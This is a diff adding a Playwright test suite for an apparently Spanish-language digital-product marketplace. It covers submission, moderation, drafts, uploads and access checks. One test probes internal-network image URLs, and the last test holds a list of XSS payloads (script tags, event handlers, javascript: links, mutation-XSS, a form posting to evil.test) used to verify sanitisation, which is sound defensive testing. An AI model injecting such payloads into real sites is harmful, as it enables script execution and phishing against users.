@@ -1,0 +1,279 @@
+import { expect, type Page, test } from '@playwright/test';
+import sharp from 'sharp';
+import { expectNoAxeViolations } from './support/axe.ts';
+import { database } from './support/database.ts';
+import { createProduct, giveOrder } from './support/goods.ts';
+import { findMail, linkIn } from './support/mailbox.ts';
+import { createPerson, type Person, signIn } from './support/people.ts';
+
+const cover = () =>
+  sharp({ create: { width: 900, height: 1200, channels: 3, background: '#5b2f8f' } })
+    .png()
+    .toBuffer();
+const step = (page: Page, name: string) => page.getByRole('tab', { name }).click();
+const send = (page: Page) => page.getByRole('button', { name: 'Enviar a revisión' }).click();
+const newName = () => `Torre ${crypto.randomUUID().slice(0, 8)}`;
+const slugOf = (name: string) => name.toLowerCase().replaceAll(' ', '-');
+
+async function uploadCover(page: Page) {
+  await step(page, 'Visuales');
+  await page
+    .getByRole('group', { name: 'Portada' })
+    .getByLabel('Subir una imagen')
+    .setInputFiles({ name: 'portada.png', mimeType: 'image/png', buffer: await cover() });
+  await expect(page.getByRole('group', { name: 'Portada' }).getByRole('img', { name: 'Portada' })).toBeVisible();
+}
+
+async function uploadProductFile(page: Page) {
+  await step(page, 'Producto');
+  await page
+    .getByLabel('Subir un archivo: URL de descarga')
+    .setInputFiles({ name: 'Torre final.zip', mimeType: 'application/zip', buffer: Buffer.from('PK torre') });
+  await expect(page.getByText('Archivo subido: Torre-final.zip')).toBeVisible();
+}
+
+async function fillIn(page: Page, name: string) {
+  await step(page, 'Información');
+  await page.getByRole('region', { name: 'Español' }).getByLabel('Nombre').fill(name);
+  await page.getByLabel('Categoría').selectOption('plugin');
+  await page.getByLabel('Precio (€)', { exact: true }).fill('9,50');
+  await page.getByRole('textbox', { name: 'Descripción' }).first().fill('Una torre que crece sola.');
+  await uploadCover(page);
+  await uploadProductFile(page);
+}
+
+async function openDesk(page: Page, moderator: Person, productName: string) {
+  await signIn(page, moderator, '/moderation');
+  await page.getByRole('link', { name: new RegExp(productName) }).click();
+  await expect(page.getByRole('heading', { level: 1, name: productName })).toBeVisible();
+}
+
+const moderatorTab = async (page: Page) => {
+  const context = await page.context().browser()?.newContext({ baseURL: process.env.SITE_URL, locale: 'es-ES' });
+  if (!context) throw new Error('no browser');
+  return context.newPage();
+};
+
+async function createModerator(): Promise<Person> {
+  const moderator = await createPerson();
+  await database()`update usuarios_meta set role = 'moderador' where id = ${moderator.id}`;
+  return moderator;
+}
+
+test('from a new account to the shop: every error at once, rejected with reasons, sent again, approved', async ({
+  page,
+}) => {
+  test.setTimeout(120_000);
+  const creator = await createPerson();
+  const name = newName();
+  await signIn(page, creator, '/dashboard');
+  await page.getByRole('link', { name: 'Publicar un producto' }).first().click();
+  await expect(page.getByRole('heading', { name: 'Publicar un producto' })).toBeVisible();
+  await expectNoAxeViolations(page);
+  await page.getByRole('region', { name: 'Español' }).getByLabel('Nombre').press('Enter');
+  const errors = page.getByRole('alert').filter({ hasText: 'Por favor corrige los siguientes errores:' });
+  await expect(errors.getByRole('listitem')).toHaveText([
+    'El nombre es obligatorio.',
+    'El slug es obligatorio.',
+    'El precio debe ser 0 o mayor.',
+    'La URL de la portada es obligatoria.',
+    'La categoría es obligatoria.',
+    'Debes añadir la URL de descarga.',
+  ]);
+
+  await fillIn(page, name);
+  await expectNoAxeViolations(page);
+  await expect(page.getByRole('complementary', { name: 'Así se verá en la tienda' })).toContainText(/9,50\s€/);
+  await send(page);
+  await expect(page).toHaveURL('/dashboard');
+  await expect(page.getByText('Producto creado y enviado a revisión.')).toBeVisible();
+  await expect(page.getByRole('row', { name: new RegExp(name) })).toContainText('En revisión');
+  expect((await page.request.get(`/p/${slugOf(name)}`)).status()).toBe(404);
+
+  const [desk, moderator] = [await moderatorTab(page), await createModerator()];
+  await openDesk(desk, moderator, name);
+  await expect(desk.getByText('Una torre que crece sola.')).toBeVisible();
+  expect(
+    (
+      await desk.request.get((await desk.getByRole('link', { name: 'Torre-final.zip' }).getAttribute('href')) ?? '')
+    ).status(),
+  ).toBe(200);
+  await expectNoAxeViolations(desk);
+  await desk.getByRole('button', { name: 'Rechazar' }).click();
+  await expect(desk.getByText('Elige al menos un motivo para rechazarlo.')).toBeVisible();
+  await desk.getByRole('checkbox', { name: 'Información incompleta' }).check();
+  await desk.getByLabel('Nota para quien lo creó').fill('Falta el tamaño');
+  await desk.getByRole('button', { name: 'Rechazar' }).click();
+  await expect(desk).toHaveURL('/moderation');
+
+  const mail = await findMail(creator.email, new RegExp(`^${name} no se ha aprobado`));
+  expect(mail.text).toContain('Falta el tamaño');
+  await page.goto('/profile/notifications');
+  await expect(page.getByText(`${name} no se ha aprobado. Mira por qué en tu panel`)).toBeVisible();
+  await page.goto('/dashboard');
+  await page.getByRole('link', { name }).click();
+  await step(page, 'Revisión');
+  await expect(page.getByText('Información incompleta')).toBeVisible();
+  await expect(page.getByText('Falta el tamaño')).toBeVisible();
+  await page.getByLabel('Escribe un mensaje').fill('Ya lo he puesto.');
+  await page.getByRole('button', { name: 'Enviar', exact: true }).click();
+  await expect(page.getByRole('region', { name: 'Mensajes con el equipo de revisión' })).toContainText(
+    'Ya lo he puesto.',
+  );
+  await step(page, 'Producto');
+  await page.getByLabel('Tamaño aproximado').fill('12 MB');
+  await send(page);
+  await expect(page.getByText('Producto actualizado y enviado para revisión.')).toBeVisible();
+
+  await desk.goto('/moderation');
+  await desk.getByRole('link', { name: new RegExp(name) }).click();
+  await expect(desk.getByText('Ya lo he puesto.')).toBeVisible();
+  await desk.getByRole('button', { name: 'Aprobar' }).click();
+  await expect(desk).toHaveURL('/moderation');
+  expect(linkIn(await findMail(creator.email, new RegExp(`^${name} está aprobado`)), '/p/')).toContain(slugOf(name));
+  await page.goto(`/p/${slugOf(name)}`);
+  await expect(page.getByRole('heading', { level: 1, name })).toBeVisible();
+  await expect(page.getByText('Una torre que crece sola.')).toBeVisible();
+  await desk.context().close();
+});
+
+test('what is on sale stays until its change is approved, and owners hear of the new version', async ({ page }) => {
+  test.setTimeout(90_000);
+  const [creator, owner, moderator] = await Promise.all([createPerson(), createPerson(), createModerator()]);
+  const product = await createProduct({ usuario_id: creator.id, precio: 5 });
+  await giveOrder(owner, product.slug);
+  await signIn(page, creator, `/edit/${product.slug}`);
+  await page.getByLabel('Precio (€)', { exact: true }).fill('7,25');
+  await step(page, 'Producto');
+  await page.getByLabel('Novedades (Español)').fill('Más rápido');
+  await send(page);
+  await expect(page.getByText('Para contar las novedades, escribe la versión.')).toBeVisible();
+  await page.getByLabel('Versión nueva').fill('2.0');
+  await send(page);
+  await expect(page.getByText('Producto actualizado y enviado para revisión.')).toBeVisible();
+  await page.goto(`/p/${product.slug}`);
+  await expect(page.getByText(/5,00\s€/).first()).toBeVisible();
+  await page.goto(`/edit/${product.slug}`);
+  await step(page, 'Revisión');
+  await expect(page.getByText(/^Puesto en la cola: \d+\.$/)).toBeVisible();
+  await expect(page.getByText('Lo que está a la venta no cambia hasta que se apruebe.')).toBeVisible();
+
+  const desk = await moderatorTab(page);
+  await openDesk(desk, moderator, product.name);
+  const price = desk.getByRole('listitem').filter({ has: desk.getByRole('heading', { name: 'Precio (€)' }) });
+  await expect(price).toContainText('5');
+  await expect(price).toContainText('7.25');
+  await desk.getByRole('button', { name: 'Aprobar' }).click();
+  await expect(desk).toHaveURL('/moderation');
+  await findMail(owner.email, new RegExp(`^${product.name} 2\\.0 ya está disponible`));
+  await page.goto(`/p/${product.slug}`);
+  await expect(page.getByText(/7,25\s€/).first()).toBeVisible();
+  await desk.context().close();
+});
+
+test('a draft survives a reload, and can be thrown away', async ({ page }) => {
+  await signIn(page, await createPerson(), '/publicar');
+  const name = page.getByRole('region', { name: 'Español' }).getByLabel('Nombre');
+  await name.fill('Castillo a medias');
+  await expect(page.getByLabel('Dirección')).toHaveValue('castillo-a-medias');
+  await page.reload();
+  await expect(page.getByText('Hemos recuperado lo que escribiste en este navegador.')).toBeVisible();
+  await expect(name).toHaveValue('Castillo a medias');
+  await page.getByRole('button', { name: 'Descartar y empezar de nuevo' }).click();
+  await expect(name).toHaveValue('');
+  await page.reload();
+  await expect(name).toHaveValue('');
+});
+
+test('an upload goes on after the connection was lost, and takes no other kinds of file', async ({ page }) => {
+  await signIn(page, await createPerson(), '/publicar');
+  await step(page, 'Producto');
+  const input = page.getByLabel('Subir un archivo: URL de descarga');
+  await input.setInputFiles({ name: 'virus.exe', mimeType: 'application/octet-stream', buffer: Buffer.from('MZ') });
+  await expect(page.getByText('Ese tipo de archivo no se puede vender aquí.')).toBeVisible();
+  await input.setInputFiles({ name: 'vacio.zip', mimeType: 'application/zip', buffer: Buffer.alloc(0) });
+  await expect(page.getByText('El archivo está vacío.')).toBeVisible();
+
+  let tries = 0;
+  await page.route('**/storage/v1/object/upload/sign/**', (route) => {
+    tries += 1;
+    return tries === 1 ? route.abort('connectionreset') : route.continue();
+  });
+  await uploadProductFile(page);
+  expect(tries).toBe(2);
+});
+
+test('a picture that is none, or an address inside our network, is refused', async ({ page }) => {
+  await signIn(page, await createPerson(), '/publicar');
+  await step(page, 'Visuales');
+  const group = page.getByRole('group', { name: 'Portada' });
+  await group
+    .getByLabel('Subir una imagen')
+    .setInputFiles({ name: 'portada.png', mimeType: 'image/png', buffer: Buffer.from('no es una imagen') });
+  await expect(group.getByText('La imagen seleccionada no es válida')).toBeVisible();
+  for (const address of [
+    `${process.env.SITE_URL}/default-avatar.webp`,
+    'https://127.0.0.1/x.png',
+    'https://localhost/x.png',
+  ]) {
+    const answer = await page.request.post('/api/product-image?kind=cover', {
+      headers: { origin: process.env.SITE_URL ?? '' },
+      data: { url: address },
+    });
+    expect(answer.status(), address).toBe(422);
+  }
+});
+
+test('the form of somebody else’s product does not exist, and a taken address is named', async ({ page }) => {
+  const product = await createProduct();
+  await signIn(page, await createPerson(), `/edit/${product.slug}`);
+  await expect(page.getByRole('heading', { name: 'Ops! Esta página no existe.' })).toBeVisible();
+  await page.goto('/publicar');
+  await fillIn(page, newName());
+  await step(page, 'Información');
+  await page.getByLabel('Dirección').fill(product.slug);
+  await send(page);
+  await expect(page.getByText('Esa dirección ya la usa otro producto.')).toBeVisible();
+});
+
+const attacks = [
+  '<script>window.hacked = 1</script>',
+  '<img src=x onerror="window.hacked = 1">',
+  '<svg onload="window.hacked = 1"><a href="javascript:window.hacked=1">x</a></svg>',
+  '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
+  '<a href="javascript:window.hacked = 1">pulsa</a>',
+  '<p style="position:fixed;inset:0;background:url(https://evil.test/x)">tapa</p>',
+  '<form action="https://evil.test"><input name="p"><button>enviar</button></form>',
+  '<math><mtext></form><form><mglyph><style></math><img src onerror="window.hacked = 1">',
+];
+
+test('pasted HTML with tricks comes out harmless in the editor, the preview and the page', async ({ page }) => {
+  const creator = await createPerson();
+  const product = await createProduct({ usuario_id: creator.id, descripcion: `<p>Hola</p>${attacks.join('')}` });
+  await signIn(page, creator, `/edit/${product.slug}`);
+  const editor = page.getByRole('textbox', { name: 'Descripción' }).first();
+  await editor.click();
+  await editor.evaluate(
+    (element, html) => {
+      const data = new DataTransfer();
+      data.setData('text/html', html);
+      element.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
+    },
+    `<p>Pegado</p>${attacks.join('')}`,
+  );
+  await expect(editor).toContainText('Pegado');
+
+  const dangers = 'script, img, svg, iframe, form, input, [style], [onerror], [onload], a[href^="javascript"]';
+  await expect(
+    editor.locator('script, svg, iframe, form, input, [onerror], [onload], a[href^="javascript"]'),
+  ).toHaveCount(0);
+  await page.getByRole('button', { name: 'Vista previa' }).click();
+  const preview = page.getByRole('dialog', { name: 'Vista previa' }).locator('.rich-text');
+  await expect(preview).toContainText('Pegado');
+  await expect(preview.locator(dangers)).toHaveCount(0);
+  await page.goto(`/p/${product.slug}`);
+  const shown = page.locator('.rich-text');
+  await expect(shown).toContainText('Hola');
+  await expect(shown.locator(dangers)).toHaveCount(0);
+  expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
+});
